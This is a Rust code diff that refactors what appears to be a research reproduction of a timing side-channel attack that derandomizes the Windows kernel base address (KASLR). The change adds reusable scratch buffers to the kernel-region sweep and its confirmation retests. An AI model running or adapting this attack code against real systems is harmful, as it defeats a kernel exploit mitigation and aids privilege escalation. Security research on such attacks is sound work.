@@ -7,6 +7,8 @@
 //! pages at base+0x298000 on 1709) are visible; finding them and
 //! subtracting the build constant recovers the base.
 
+use core::mem;
+
 use avx_mmu::VirtAddr;
 use avx_os::windows::{
     KVAS_SHADOW_OFFSET, KVAS_SHADOW_PAGES, WIN_KASLR_ALIGN, WIN_KERNEL_IMAGE_SLOTS,
@@ -16,7 +18,7 @@ use avx_os::windows::{
 use crate::adaptive::AdaptiveSampler;
 use crate::calibrate::Threshold;
 use crate::decision::{ConfirmConfig, Confirmer, RunTracker};
-use crate::primitives::PageTableAttack;
+use crate::primitives::{PageTableAttack, TileScratch};
 use crate::prober::Prober;
 use crate::recal::{RecalConfig, Recalibrating};
 use crate::sweep::AddrRange;
@@ -118,11 +120,22 @@ impl WindowsKaslrAttack {
     /// early-exits once the run is confirmed, as the real attack would;
     /// the paper reports ~60 ms for the full sweep.
     pub fn find_kernel_region<P: Prober + ?Sized>(&self, p: &mut P) -> WindowsKaslrScan {
+        self.find_kernel_region_in(p, &mut TileScratch::default())
+    }
+
+    /// [`WindowsKaslrAttack::find_kernel_region`] on caller-kept tile
+    /// buffers, shared by the streamed sweep and the confirmation
+    /// re-visits.
+    pub(crate) fn find_kernel_region_in<P: Prober + ?Sized>(
+        &self,
+        p: &mut P,
+        scratch: &mut TileScratch,
+    ) -> WindowsKaslrScan {
         let probing_before = p.probing_cycles();
         let total_before = p.total_cycles();
         let start = VirtAddr::new_truncate(WIN_KERNEL_REGION_START);
         let region = AddrRange::new(start, WIN_KASLR_ALIGN, WIN_KERNEL_SLOTS);
-        let mut sweeper = Recalibrating::for_attack(self.attack);
+        let mut sweeper = Recalibrating::for_attack(self.attack).with_scratch(mem::take(scratch));
         let confirmer = self.confirm.map(|c| Confirmer::new(&self.attack, c));
         // Without a confirmer no gap is tolerated: the first unmapped
         // slot resets the run.
@@ -147,7 +160,7 @@ impl WindowsKaslrAttack {
                 let verdict = match &confirmer {
                     Some(confirmer) if !mapped && tracker.in_run() => {
                         let addr = start.wrapping_add(slot * WIN_KASLR_ALIGN);
-                        let retest = confirmer.confirm_mapped(p, addr);
+                        let retest = confirmer.confirm_mapped_in(p, addr, sweeper.scratch_mut());
                         probes += retest.probes;
                         retest.confirmed
                     }
@@ -164,6 +177,7 @@ impl WindowsKaslrAttack {
             }
         }
 
+        *scratch = sweeper.into_scratch();
         WindowsKaslrScan {
             base: found.map(|s| start.wrapping_add(s * WIN_KASLR_ALIGN)),
             slot: found,
@@ -202,7 +216,9 @@ impl WindowsKaslrAttack {
                 let verdict = match (&confirmer, mapped, run_len > 0) {
                     (Some(confirmer), false, true) => {
                         let addr = window_start.wrapping_add(index * 4096);
-                        confirmer.confirm_mapped(p, addr).confirmed
+                        confirmer
+                            .confirm_mapped_in(p, addr, sweeper.scratch_mut())
+                            .confirmed
                     }
                     _ => mapped,
                 };
